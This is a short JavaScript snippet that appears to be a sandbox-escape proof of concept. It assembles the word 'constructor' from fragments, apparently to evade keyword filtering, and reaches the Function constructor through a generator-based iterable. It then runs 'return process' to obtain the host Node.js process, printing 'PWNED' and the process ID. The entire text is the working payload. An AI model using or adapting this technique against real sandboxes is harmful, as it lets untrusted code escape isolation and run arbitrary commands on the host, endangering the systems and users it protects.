const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield (x) => x; } }
class H extends G {}
const made = Array.from(new H(), (f) => f[w]);
console.log('PWNED', made[0]('return process')().pid);
